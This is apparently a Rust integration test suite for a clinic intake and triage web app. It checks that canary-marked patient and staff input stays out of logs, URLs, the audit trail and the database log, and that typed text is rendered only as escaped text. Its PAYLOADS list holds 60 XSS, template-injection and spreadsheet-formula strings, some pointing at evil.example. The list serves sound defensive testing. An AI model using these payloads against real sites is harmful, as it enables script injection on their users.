//! What patients and staff say goes nowhere but to the pages it belongs on, and stays text there: not into a
//! log, an address, the audit trail or the database's log, and never into markup.

use std::collections::BTreeMap;
use std::io;
use std::path::Path;
use std::sync::{Mutex, Once};

use anteroom::account::{self, Role};
use anteroom::{config, mail};
use jiff::SignedDuration;
use reqwest::Method;
use scraper::{Html, Selector};
use serde_json::{Value as Json, json};
use sqlx::{AssertSqlSafe, PgConnection};
use tracing_subscriber::layer::SubscriberExt;
use tracing_subscriber::util::SubscriberInitExt;
use tracing_subscriber::{Layer, filter};

use crate::driver::{Form, Visit};
use crate::post::Post;
use crate::site::{Answer, PASSWORD, Site, answer, browser};

/// Everything that this process has logged, the tests' own HTTP client left out.
static LOG: Mutex<Vec<u8>> = Mutex::new(Vec::new());

struct Sink;

impl io::Write for Sink {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        LOG.lock().expect("the log").extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Listens to everything at every level. Once for the process: other tests may run in it, their lines do no harm.
pub fn listen() {
    static ONCE: Once = Once::new();
    ONCE.call_once(|| {
        let clients = ["reqwest", "hyper", "hyper_util", "cookie_store", "selectors", "html5ever", "markup5ever", "want"];
        let ours = filter::filter_fn(move |meta| !clients.iter().any(|client| meta.target().split("::").next() == Some(client)));
        let layer = tracing_subscriber::fmt::layer().json().with_writer(|| Sink).with_filter(ours);
        tracing_subscriber::registry().with(layer).init();
    });
}

pub fn logged() -> String {
    String::from_utf8_lossy(&LOG.lock().expect("the log")).to_lowercase()
}

/// linkId and type of every question a person can answer.
fn questions() -> BTreeMap<String, String> {
    fn collect(items: &Json, found: &mut BTreeMap<String, String>) {
        for item in items.as_array().into_iter().flatten() {
            let text = |name: &str| item[name].as_str().unwrap_or_default().to_owned();
            if !text("linkId").starts_with("calc-") {
                found.insert(text("linkId"), text("type"));
            }
            collect(&item["item"], found);
        }
    }
    let form: Json = serde_json::from_str(include_str!("../../forms/muscle-twitching/questionnaire.json")).expect("JSON");
    let mut found = BTreeMap::new();
    collect(&form["item"], &mut found);
    found
}

/// Answers to all that a page asks: those of `told`, `text` for words, and something harmless for the rest.
fn answers(form: &Form, told: &Json, text: &dyn Fn(&str) -> String) -> Json {
    let questions = questions();
    let mut answers = json!({});
    for field in &form.fields {
        let link_id = field.name.split('.').next().unwrap_or_default();
        let kind = questions.get(link_id).map_or("", String::as_str);
        let options: Vec<&str> = form.fields.iter().filter(|other| other.name == field.name).map(|other| other.value.as_str()).collect();
        answers[link_id] = match kind {
            "" => continue,
            _ if told.get(link_id).is_some() => told[link_id].clone(),
            "string" | "text" => json!(text(link_id)),
            "integer" | "decimal" => json!("1"),
            "boolean" => json!("false"),
            "choice" => json!([options.iter().find(|option| **option == "none").unwrap_or(&options[0])]),
            _ => continue,
        };
    }
    answers
}

/// Walks on from page to page; what it met on the way.
async fn walk(visit: &mut Visit<'_>, told: &Json, text: &dyn Fn(&str) -> String, until: &str) -> Vec<String> {
    let mut met = Vec::new();
    while visit.at() != until {
        assert!(met.len() < 150 && visit.page.status.is_success(), "{met:?}: {} {:?}", visit.page.status, visit.texts(".summary li"));
        met.push(visit.at());
        match visit.at().as_str() {
            "stop" => visit.send(&Json::Null, Some("called")).await,
            "carry-on" => {
                let onward = visit.link("a.button");
                visit.go(&onward).await;
            }
            _ => {
                let answers = answers(&visit.form(), told, text);
                visit.send(&answers, None).await;
            }
        }
    }
    met
}

/// The `value` of every cookie an answer sets.
fn secrets(answer: &Answer) -> Vec<String> {
    let lines = answer.headers.get_all("set-cookie").iter().filter_map(|line| line.to_str().ok());
    let values = lines.filter_map(|line| Some(line.split(';').next()?.split_once('=')?.1.to_owned()));
    values.filter(|value| !value.is_empty()).collect()
}

/// Comes back by a code and by a mailed link, with something wrong and with nothing wrong; what must stay hidden.
async fn comes_back(visit: &Visit<'_>, post: &Post, mark: &dyn Fn(&str) -> String) -> Vec<String> {
    let (site, page) = (visit.site, visit.path.replace("/check", "/come-back"));
    let shown = site.get(&visit.browser, &page).await.body;
    let code = shown.split_once("class=\"reference\">").expect("a code").1.split('<').next().expect("its end").to_owned();
    let to = format!("{}@canary.example", mark("sendto"));
    assert!(shown.contains(&format!("{}@canary.example", mark("mail"))), "the address told is at hand");
    site.post(&visit.browser, &page, &[("send-to", &mark("noaddress"))]).await;
    post.refuse(Some(&format!("550 {to}: {}", mark("refusal"))));
    assert_eq!(site.post(&visit.browser, &page, &[("send-to", &to)]).await.status, 303);
    mail::send_due(&site.state).await.expect("refused");
    post.refuse(None);
    site.clock.advance(SignedDuration::from_mins(1));
    mail::send_due(&site.state).await.expect("sent");
    let letter = post.letters().pop().expect("a letter").text();
    let link = letter.lines().find(|line| line.starts_with(&site.url)).expect("a link").to_owned();
    let born = |day: &'static str| [("birth-date.day", day), ("birth-date.month", "6"), ("birth-date.year", "1987")];
    let mut hidden = vec![code.clone(), code.replace('-', ""), link.rsplit('/').next().expect("a token").to_owned()];
    for day in ["6", "5"] {
        let fields = [vec![("code", code.as_str())], born(day).to_vec()].concat();
        hidden.extend(secrets(&site.post(&browser(), "/c/riverside/resume", &fields).await));
        // The link is an address by itself: that one is known to hold its token.
        answer(browser().get(&link)).await;
        hidden.extend(secrets(&answer(browser().post(&link).form(&born(day))).await));
    }
    assert_eq!(hidden.len(), 5, "both opened it");
    hidden
}

#[actix_web::test]
async fn nothing_that_was_said_is_logged_or_stands_in_an_address() {
    listen();
    let post = Post::open().await;
    let from = "The riverside practice <no-reply@riverside.example>";
    let mut site = Site::tuned(|config| config.mail = Some(config::mail(&post.url, from).expect("mail"))).await;
    let unique = uuid::Uuid::new_v4().simple().to_string();
    let mark = |name: &str| format!("kanari-{}-{unique}", name.replace('-', ""));
    let phone = format!("07700 9{:05}", u32::from_str_radix(&unique[..5], 16).expect("a number") % 100_000);
    let told = json!({
        "consent-use": true, "consent-share": true, "completed-by": "self", "country-now": "gb",
        "es-now": ["hard-to-wake", "unsure"], "es-new": ["unsure"], "birth-date": "1987-06-05", "sex-at-birth": "female",
        "contact-phone": phone, "contact-email": format!("{}@canary.example", mark("mail")),
        "med-class": ["other"], "travel": true, "family": ["thyroid"], "conditions": ["other"],
        "pregnancy": "no", "twitch-now": "yes-now", "read-advice": true, "contact-safe": true
    });
    let login = mark("login");
    site.enrol(&login, 0, Role::Clinician).await;
    let at = site.clock.now();
    let token = account::invite(&mut site.owner, "fay", "Fay", "riverside", Role::Clinician, at).await.expect("a link");

    // The patient: begins, is stopped, carries on, sends, reads the receipt.
    let mut visit = Visit::open(&site, "riverside").await;
    let begun = site.post(&visit.browser, "/c/riverside/start", &[]).await;
    let mut hidden = secrets(&begun);
    assert_eq!(hidden.len(), 1);
    visit.go(begun.to()).await;
    let met = walk(&mut visit, &told, &|link_id| mark(link_id), "check").await;
    assert!(met.contains(&"stop".to_owned()) && met.contains(&"contact".to_owned()), "{met:?}");
    hidden.extend(comes_back(&visit, &post, &mark).await);
    // A faulty page, an old page, a page that is too much, on the way.
    let story = visit.path.replace("/check", "/p/page-story");
    let long = mark("long").repeat(500);
    for fields in [
        [("_version", "1"), ("story", mark("stale").as_str())],
        [("_version", "x"), ("story", &long)],
        [("_version", "x"), ("story", &format!("{}\0", mark("nul")))],
    ] {
        site.post(&visit.browser, &story, &fields).await;
    }
    visit.go(&visit.path.clone()).await;
    walk(&mut visit, &told, &|link_id| mark(link_id), "receipt").await;
    let codes = visit.texts(".reference");
    hidden.push(codes[1].clone());
    let mut conn = site.connection().await;
    let stored: Json = sqlx::query_scalar("SELECT document->'answers' FROM response").fetch_one(&mut conn).await.expect("a row");
    let kinds = questions();
    let spoken = kinds.iter().filter(|(_, kind)| matches!(kind.as_str(), "string" | "text")).map(|(link_id, _)| link_id.as_str());
    let silent: Vec<&str> = spoken.filter(|link_id| stored.get(link_id).is_none()).collect();
    assert_eq!(silent, ["update-story"], "questions that the canary did not answer");
    // It got worse; and the record is read on another device, after a wrong try.
    visit.go(&visit.path.replace("/receipt", "/update")).await;
    let worse = json!({ "es-now": ["none"], "es-new": ["unsure"], "update-course": "worse", "completed-by": "self" });
    let worse = answers(&visit.form(), &worse, &|link_id| mark(link_id));
    visit.send(&worse, None).await;
    assert_eq!(visit.at(), "receipt", "{:?}", visit.texts("main"));
    let device = browser();
    for (code, year) in [(mark("code").as_str(), "1987"), (codes[1].as_str(), "1990"), (codes[1].as_str(), "1987")] {
        let fields = [("access-code", code), ("birth-date.day", "5"), ("birth-date.month", "6"), ("birth-date.year", year)];
        hidden.extend(secrets(&site.post(&device, "/c/riverside/status", &fields).await));
    }
    let record: String =
        sqlx::query_scalar("SELECT public_id FROM response WHERE updates IS NULL").fetch_one(&mut conn).await.expect("a row");
    for (page, shown) in
        [("", "update-story"), ("answers", "story"), ("answers.txt", "story"), ("answers.fhir.json", "story"), ("opened", "")]
    {
        let read = site.get(&device, &format!("/c/riverside/r/{record}/{page}")).await;
        assert!(read.status == 200 && (shown.is_empty() || read.body.contains(&mark(shown))), "{page}: {}", read.status);
    }

    // The staff: a wrong password, the right one, everything they can do with the case.
    let staff = browser();
    for (name, password) in [(login.as_str(), mark("guess")), (&mark("nobody"), mark("guess")), (&mark("typed-into-login"), String::new())]
    {
        site.sign_in(&staff, name, &password).await;
    }
    let signed_in = site.sign_in(&staff, &login, PASSWORD).await;
    assert_eq!(signed_in.to(), "/queue");
    hidden.extend(
        secrets(&signed_in)
            .iter()
            .flat_map(|value| value.split(['.', '~']).map(str::to_owned).collect::<Vec<_>>())
            .filter(|part| part.len() > 36),
    );
    assert!(site.get(&staff, "/queue").await.body.contains(&mark("story")), "the queue shows it to whom it concerns");
    let case: uuid::Uuid = sqlx::query_scalar("SELECT case_id FROM patient_case").fetch_one(&mut site.superuser).await.expect("a case");
    let case = format!("/cases/{case}");
    let shown = site.get(&staff, &case).await;
    assert!(shown.body.contains(&mark("hope")) && shown.body.contains("hard to wake"));
    for query in [
        ("name", mark("name-family")),
        ("phone", phone.clone()),
        ("born", "5 June 1987".to_owned()),
        ("born", mark("born")),
        ("reference", codes[0].clone()),
    ] {
        site.post(&staff, "/search", &[(query.0, &query.1)]).await;
    }
    let version = shown.value("name=\"version\"");
    for fields in [[("outcome", ""), ("note", &mark("note"))], [("outcome", "advice"), ("note", &mark("stale-note"))]] {
        site.post(&staff, &format!("{case}/decisions"), &fields).await;
    }
    let asked = [("question", mark("question")), ("version", version), ("at-once", "yes".to_owned())];
    site.post(&staff, &format!("{case}/questions"), &asked.each_ref().map(|(name, value)| (*name, value.as_str()))).await;
    let place = format!("/c/riverside/r/{record}/");
    let page = site.get(&device, &place).await;
    assert!(page.body.contains(&mark("question")));
    for words in [String::new(), mark("answer"), mark("other-answer")] {
        site.post(&device, &format!("{place}answer"), &[("question", &page.value("name=\"question\"")), ("answer", &words)]).await;
    }
    let shown = site.get(&staff, &case).await;
    assert!(shown.body.contains(&mark("answer")));
    let version = shown.value("name=\"version\"");
    let decided = [("outcome", "referral"), ("note", &mark("note")), ("version", &version)];
    assert_eq!(site.post(&staff, &format!("{case}/decisions"), &decided).await.to(), "/queue");
    site.get(&staff, "/queue?status=closed").await;
    let wrong = [("old", mark("old-password")), ("new", mark("new-password")), ("again", mark("new-password"))];
    site.post(&staff, "/password", &wrong.each_ref().map(|(name, value)| (*name, value.as_str()))).await;
    hidden.extend([token.clone(), mark("new-password")]);
    let addresses = site.visited.lock().expect("a list").join("\n").to_lowercase();
    site.post(&browser(), &format!("/welcome/{token}"), &[("new", &mark("new-password")), ("again", &mark("new-password"))]).await;

    // What others send: addresses, headers and fields of their own making; and what goes wrong.
    for path in [
        format!("/{}", mark("path")),
        format!("/c/{}", mark("slug")),
        format!("/queue?level={}", mark("query")),
        format!("/cases/{}", mark("case")),
    ] {
        let request = site
            .request(&staff, Method::GET, &path)
            .header("user-agent", mark("agent"))
            .header("referer", format!("{}/{}", site.url, mark("referer")));
        answer(request.header("x-forwarded-for", mark("forwarded")).header("x-request-id", mark("request"))).await;
    }
    let (other, page) = {
        let visit = Visit::start(&site, "riverside").await;
        (visit.browser.clone(), visit.path.replace("page-consent", "page-story"))
    };
    site.as_superuser("REVOKE INSERT ON audit_event FROM anteroom_app").await;
    assert_eq!(site.post(&other, &page, &[("_version", "1"), ("story", &mark("unrecorded"))]).await.status, 503);
    site.as_superuser("GRANT INSERT ON audit_event TO anteroom_app").await;
    site.as_superuser("ALTER TABLE decision ADD CONSTRAINT never CHECK (document->>'note' = '') NOT VALID").await;
    let version = site.get(&staff, &case).await.value("name=\"version\"");
    let refused = [("outcome", "referral"), ("note", &mark("refused")), ("version", &version)];
    assert_eq!(site.post(&staff, &format!("{case}/decisions"), &refused).await.status, 500, "the database quotes the row that it refuses");
    site.outage(true).await;
    assert_eq!(site.post(&other, &page, &[("_version", "1"), ("story", &mark("outage"))]).await.status, 503);
    site.post(&staff, "/search", &[("name", &mark("outage"))]).await;
    site.post(&browser(), "/sign-in", &[("login", &mark("outage")), ("password", &mark("outage"))]).await;
    site.outage(false).await;

    let said = [unique.clone(), phone.clone(), phone.replace(' ', ""), phone[6..].to_owned()];
    let born = ["1987-06-05", "5 june 1987", "05-jun-1987", "05/06/1987"].map(str::to_owned);
    let chosen = ["hard-to-wake", "hard to wake"].map(str::to_owned);
    let never: Vec<String> = said
        .iter()
        .chain(&born)
        .chain(&chosen)
        .chain(&hidden)
        .chain(&codes)
        .chain([&PASSWORD.to_owned()])
        .map(|word| word.to_lowercase())
        .collect();
    assert!(never.iter().all(|word| word.len() >= 6), "{never:?}");
    let quiet = |place: &str, text: &str| {
        for word in &never {
            if let Some(at) = text.find(word.as_str()) {
                let around: String = text[..at].chars().rev().take(300).collect::<Vec<_>>().into_iter().rev().collect();
                panic!("{place} holds {word} after {around}");
            }
        }
    };
    let log = logged();
    for route in ["/c/{clinic}/i/{id}/p/{page}", "/c/{clinic}/i/{id}/submit", "/cases/{id}/decisions", "unmatched"] {
        assert!(log.contains(&format!("\"route\":\"{route}\"")), "the log was not caught: {route}");
    }
    assert!(log.contains("insert into audit_event"), "statements were not caught");
    quiet("the log", &log);
    quiet("an address", &addresses);
    // The outage threw everybody out.
    let mut database = site.connection().await;
    let trail: String =
        sqlx::query_scalar("SELECT string_agg(e::text, chr(10)) FROM audit_event e").fetch_one(&mut database).await.expect("the trail");
    assert!(trail.contains("intake-submit") && trail.contains("case-view") && trail.contains("search"));
    quiet("the audit trail", &trail.to_lowercase());
    quiet("the database's log", &database_log(&mut database).await);
}

/// What Postgres must be told, so that it logs no values.
const QUIET_DATABASE: [(&str, &str); 6] = [
    ("log_statement", "none"),
    ("log_min_messages", "log"),
    ("log_min_error_statement", "panic"),
    ("log_error_verbosity", "terse"),
    ("log_parameter_max_length", "0"),
    ("log_parameter_max_length_on_error", "0"),
];

/// The log of the Postgres that these tests run on, as well as it can be found: beside the data.
async fn database_log(database: &mut PgConnection) -> String {
    let data: String = sqlx::query_scalar("SHOW data_directory").fetch_one(&mut *database).await.expect("a folder");
    let file = Path::new(&data).with_file_name("postgres.log");
    std::fs::read_to_string(file).unwrap_or_default().to_lowercase()
}

#[actix_web::test]
async fn the_database_logs_no_values() {
    let mut site = Site::start().await;
    let compose = include_str!("../../docker-compose.yml");
    for (name, value) in QUIET_DATABASE {
        let set: String =
            sqlx::query_scalar(AssertSqlSafe(format!("SHOW {name}"))).fetch_one(&mut site.superuser).await.expect("a setting");
        assert_eq!(set, value, "{name}");
        assert!(compose.contains(&format!("-c {name}={value}")), "docker-compose.yml does not set {name}");
    }
    let slow: String = sqlx::query_scalar("SHOW log_min_duration_statement").fetch_one(&mut site.superuser).await.expect("a setting");
    assert_eq!(slow, "-1");
}

/// Texts that are markup, script or trickery somewhere.
const PAYLOADS: [&str; 60] = [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror=\"window.__xss=1\">",
    "<img/src=`x`onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg/onload=window.__xss=1//",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x></svg>#x\">",
    "<math><mtext><img src=x onerror=window.__xss=1></mtext></math>",
    "<math href=\"javascript:window.__xss=1\">go</math>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\">",
    "<object data=javascript:window.__xss=1>",
    "<embed src=javascript:window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<select autofocus onfocus=window.__xss=1>",
    "<textarea autofocus onfocus=window.__xss=1>",
    "<button formaction=javascript:window.__xss=1>go",
    "<form action=javascript:window.__xss=1><input type=submit>",
    "<a href=javascript:window.__xss=1>go</a>",
    "<a href=\"jav&#x09;ascript:window.__xss=1\">go</a>",
    "<a href=data:text/html,<script>window.__xss=1</script>>go</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"background:url(javascript:window.__xss=1)\">x",
    "\"><script>window.__xss=1</script>",
    "'><script>window.__xss=1</script>",
    "\" onmouseover=\"window.__xss=1",
    "' onmouseover='window.__xss=1",
    "\" autofocus onfocus=\"window.__xss=1\" x=\"",
    "` onmouseover=window.__xss=1 `",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</style><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "</p></q></a></h1></div><img src=x onerror=window.__xss=1>",
    "--><script>window.__xss=1</script><!--",
    "<!--<img src=\"--><img src=x onerror=window.__xss=1//\">",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<?xml version=\"1.0\"?><script>window.__xss=1</script>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "&amp;lt;b&amp;gt; &quot; &#x27; &nbsp;|",
    "javascript:window.__xss=1//",
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('window.__xss=1')()}}",
    "=cmd|' /C calc'!A0",
    "\u{202e}txet desrever\u{202c} \u{2066}isolated\u{2069} <b>\u{200f}bold",
    "\u{ff1c}script\u{ff1e}window.__xss=1\u{ff1c}/script\u{ff1e}",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e",
];

fn folded(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The page holds nothing but markup of ours, and each `(selector, text)` exactly.
fn only_text(what: &str, page: &str, shown: &[(&str, String)]) {
    const FOREIGN: [&str; 12] =
        ["iframe", "object", "embed", "base", "img", "video", "audio", "math", "style", "marquee", "animate", "use"];
    let html = Html::parse_document(page);
    let all = Selector::parse("*").expect("selector");
    let mut scripts = 0;
    for element in html.select(&all) {
        let name = element.value().name();
        assert!(!FOREIGN.contains(&name), "{what}: <{name}>");
        scripts += usize::from(name == "script");
        for (attribute, value) in element.value().attrs() {
            assert!(
                !attribute.starts_with("on") && !["style", "srcdoc", "http-equiv", "autofocus"].contains(&attribute),
                "{what}: <{name} {attribute}>"
            );
            if ["href", "src", "action", "formaction", "xlink:href"].contains(&attribute) {
                let ours = value.is_empty()
                    || value.starts_with(['#', '?'])
                    || value.starts_with("./?")
                    || value.starts_with("tel:")
                    || (value.starts_with('/') && !value.starts_with("//"));
                assert!(ours, "{what}: <{name} {attribute}={value:?}>");
            }
        }
    }
    // Every page has ours; one of a session tells when that ends, and the queue has one more for its live line.
    let signed_in = usize::from(page.contains("class=\"session-bar"));
    assert_eq!(scripts, 1 + signed_in + usize::from(what == "the queue"), "{what}: scripts");
    for (selector, text) in shown {
        let found = Selector::parse(selector).expect("selector");
        let texts: Vec<String> = html
            .select(&found)
            .map(|element| {
                if element.value().name() == "input" {
                    element.attr("value").unwrap_or_default().to_owned()
                } else {
                    element.text().collect()
                }
            })
            .map(|text: String| folded(&text))
            .collect();
        assert!(texts.contains(&folded(text)), "{what}: {selector} is {texts:?}, not {text:?}");
    }
}

#[actix_web::test]
async fn whatever_is_typed_stays_text() {
    let mut site = Site::start().await;
    site.enrol("ada", 0, Role::Clinician).await;
    let staff = browser();
    site.sign_in(&staff, "ada", PASSWORD).await;
    let mut visit = Visit::start(&site, "riverside").await;
    let told = json!({ "consent-use": true, "consent-share": true, "completed-by": "self", "country-now": "gb", "es-now": ["chest-pain"] });
    walk(&mut visit, &told, &|_| "plain".to_owned(), "contact").await;
    let mut database = site.connection().await;
    let (case, reference): (uuid::Uuid, String) =
        sqlx::query_as("SELECT case_id, reference FROM patient_case").fetch_one(&mut database).await.expect("a case");
    let case = format!("/cases/{case}");
    let page = |name: &str| visit.path.replace("/contact", name);
    let (story, name, place, check) = (page("/p/page-story"), page("/p/page-name"), page("/p/page-place"), page("/check"));
    let mut tab = Visit { site: &site, browser: visit.browser.clone(), path: String::new(), page: Answer::empty() };
    for payload in PAYLOADS {
        let text = payload.to_owned();
        let who = format!("{}, {text}", text.to_uppercase());
        tab.go(&story).await;
        tab.send(&json!({ "story": text }), None).await;
        tab.go(&place).await;
        tab.send(&json!({ "address-now": text }), None).await;
        // Comes back because of the date, with what was typed; the names are kept all the same.
        tab.go(&name).await;
        tab.send(&json!({ "name-given": text, "name-family": text, "birth-date": "1990-02-31" }), None).await;
        assert_eq!(tab.page.status, 422, "{text}");
        only_text(
            "the page that came back",
            &tab.page.body,
            &[("input[name=name-given]", text.clone()), ("input[name=name-family]", text.clone())],
        );
        tab.go(&story).await;
        only_text("the page of the story", &tab.page.body, &[("textarea[name=story]", text.clone())]);
        // From an old page: both answers are shown.
        let stale = site.post(&visit.browser, &story, &[("_version", "0"), ("story", &format!("{text} again"))]).await;
        assert_eq!(stale.status, 409);
        only_text(
            "the page with two answers",
            &stale.body,
            &[(".versus .answer", text.clone()), (".versus .answer", format!("{text} again"))],
        );
        tab.go(&check).await;
        only_text("check your answers", &tab.page.body, &[("dl.answers dd .words", text.clone())]);

        let shown = [(".case-why q", text.clone()), (".case-who a", who.clone())];
        only_text("the queue", &site.get(&staff, "/queue").await.body, &shown);
        only_text("search results", &site.post(&staff, "/search", &[("reference", &reference)]).await.body, &shown);
        let again = site.post(&staff, "/search", &[("name", &text), ("born", &text), ("phone", &text), ("reference", &text)]).await;
        only_text("the search as typed", &again.body, &[("input[name=name]", text.clone()), ("input[name=born]", text.clone())]);
        let again = site.post(&browser(), "/sign-in", &[("login", &text)]).await;
        only_text("the sign-in as typed", &again.body, &[("input[name=login]", text.clone())]);
        let again = site
            .post(&staff, &format!("{case}/decisions"), &[("outcome", &text), ("note", &text), ("seen", &text), ("version", &text)])
            .await;
        let shown = [
            ("blockquote q", text.clone()),
            ("h1.name", who.clone()),
            ("title", format!("Error: Case {reference} – The riverside practice")),
            ("#a-story .words", text.clone()),
            ("section[aria-labelledby=contact] dd", text.clone()),
            ("textarea[name=note]", text.clone()),
        ];
        only_text("the case", &again.body, &shown);
    }
    // Notes, and names of staff, as others will see them.
    sqlx::query("UPDATE account SET display_name = $1").bind(PAYLOADS[35]).execute(&mut database).await.expect("renamed");
    let mut version: i32 = site.get(&staff, &case).await.value("name=\"version\"").parse().expect("a number");
    for payload in PAYLOADS {
        let kept = site
            .post(&staff, &format!("{case}/decisions"), &[("outcome", "referral"), ("note", payload), ("version", &version.to_string())])
            .await;
        assert_eq!(kept.to(), "/queue");
        version += 1;
    }
    let shown: Vec<(&str, String)> =
        PAYLOADS.iter().map(|payload| (".card p", (*payload).to_owned())).chain([(".who b", PAYLOADS[35].to_owned())]).collect();
    only_text("the case with its notes", &site.get(&staff, &case).await.body, &shown);
    only_text("closed cases", &site.get(&staff, "/queue?status=closed").await.body, &[(".case-why q", PAYLOADS[59].to_owned())]);
}
